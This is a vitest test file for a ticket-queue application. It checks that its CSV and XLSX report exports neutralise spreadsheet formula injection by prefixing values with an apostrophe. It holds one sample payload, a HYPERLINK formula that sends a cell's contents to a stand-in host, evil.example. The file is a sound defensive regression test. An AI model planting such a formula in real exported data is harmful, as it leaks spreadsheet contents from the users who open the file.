import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { neutraliseFormula } from "../../src/modules/reports/export.ts";
import { ticketsSheet } from "../helpers/exports.ts";
import { issue, type Office, setUpOffice, takeWorkstation } from "../helpers/office.ts";
import { TestClock, type TestContext } from "../helpers/test-app.ts";

/**
 * CSV/formula injection (OWASP "CSV Injection"): names and comments typed by staff or clients must come
 * out of the exports as text, never as live formulas; numbers must stay numbers.
 */
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const COMMENT = "+SUM(1,2)";
const DAY = "from=2026-03-02&to=2026-03-02";

let ctx: TestContext;
let office: Office;
const clock = new TestClock(new Date("2026-03-02T06:00:00Z"));

setUpOffice({ clock }, async (c, o) => {
  ctx = c;
  office = o;
  const evil = await ctx.request("POST", "/api/v1/categories", {
    cookie: ctx.adminCookie,
    body: { name: EVIL, priority: 1 },
  });
  expect(evil.status, JSON.stringify(evil.body)).toBe(201);
  const { anna } = office.operators;
  const op = async (path: string) => {
    const r = await ctx.request("POST", `/api/v1/operator/${path}`, { cookie: anna.cookie });
    expect(r.status, `${path}: ${JSON.stringify(r.body)}`).toBeLessThan(300);
    return r.body;
  };
  await takeWorkstation(ctx, anna.cookie, office.workstations.w1);
  const ticket = await issue(ctx, office, office.services.buy, { categoryId: evil.body.id });
  clock.advance(120);
  expect((await op("call-next")).id).toBe(ticket.id);
  await op(`tickets/${ticket.id}/start`);
  clock.advance(300);
  await op(`tickets/${ticket.id}/finish`);
  const rated = await ctx.request("POST", `/api/v1/tickets/${ticket.code}/rating`, {
    body: { score: 4, comment: COMMENT },
  });
  expect(rated.status, JSON.stringify(rated.body)).toBeLessThan(300);
  clock.advance(3600);
});

/** RFC 4180: fields separated by commas, rows by CRLF, `"` quotes a field and `""` is a quote inside it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += ch;
  }
  if (field !== "" || row.length > 0) rows.push([...row, field]);
  return rows;
}

describe("neutraliseFormula", () => {
  it("prefixes formula-like strings with an apostrophe and leaves everything else alone", () => {
    expect(neutraliseFormula(EVIL)).toBe(`'${EVIL}`);
    expect(neutraliseFormula("+1")).toBe("'+1");
    expect(neutraliseFormula("-2")).toBe("'-2");
    expect(neutraliseFormula("@x")).toBe("'@x");
    expect(neutraliseFormula("\tx")).toBe("'\tx");
    expect(neutraliseFormula("\rx")).toBe("'\rx");
    expect(neutraliseFormula("Купить билет")).toBe("Купить билет");
    expect(neutraliseFormula("a=b")).toBe("a=b");
    expect(neutraliseFormula("")).toBe("");
    expect(neutraliseFormula(-5)).toBe(-5);
    expect(neutraliseFormula(0)).toBe(0);
    expect(neutraliseFormula(null)).toBe(null);
    const date = new Date("2026-03-02T06:00:00Z");
    expect(neutraliseFormula(date)).toBe(date);
  });
});

describe("the ticket history exports", () => {
  it("CSV: the formula-like category and comment come out as text, numbers as plain numbers", async () => {
    const res = await ctx.request("GET", `/api/v1/reports/tickets?${DAY}&format=csv&lang=en`, {
      cookie: office.supervisor.cookie,
    });
    expect(res.status).toBe(200);
    expect(res.headers["content-type"]).toContain("text/csv");
    const [header, ...rows] = parseCsv(String(res.body).replace(/^\uFEFF/, ""));
    const col = (name: string) => header!.indexOf(name);
    const row = rows.find((r) => r[col("Category")] !== "");
    expect(row).toBeDefined();
    expect(row![col("Category")]).toBe(`'${EVIL}`);
    expect(row![col("Comment")]).toBe(`'${COMMENT}`);
    expect(row![col("Wait, s")]).toBe("120");
    expect(row![col("Service, s")]).toBe("300");
    expect(row![col("Rating")]).toBe("4");
    // In the office's time (Moscow), as a spreadsheet reads a date and time.
    expect(row![col("Issued")]).toBe("2026-03-02 09:00:00");
    expect(row![col("Outcome")]).toBe("Served");
  });

  it("XLSX: the formula-like category and comment are text cells, numbers stay numeric cells", async () => {
    const sheet = await ticketsSheet(ctx, DAY, office.supervisor.cookie);
    const header = sheet.getRow(1).values as unknown[];
    const col = (name: string) => header.indexOf(name);
    const rows = Array.from({ length: sheet.rowCount - 1 }, (_, i) => sheet.getRow(i + 2));
    const row = rows.find((r) => r.getCell(col("Category")).value !== null);
    expect(row).toBeDefined();
    const category = row!.getCell(col("Category"));
    expect(category.type).toBe(ExcelJS.ValueType.String);
    expect(category.value).toBe(`'${EVIL}`);
    const comment = row!.getCell(col("Comment"));
    expect(comment.type).toBe(ExcelJS.ValueType.String);
    expect(comment.value).toBe(`'${COMMENT}`);
    for (const [name, value] of [
      ["Segment", 1],
      ["Wait, s", 120],
      ["Service, s", 300],
      ["Calls", 1],
      ["Rating", 4],
    ] as const) {
      const cell = row!.getCell(col(name));
      expect(cell.type, name).toBe(ExcelJS.ValueType.Number);
      expect(cell.value, name).toBe(value);
    }
  });
});
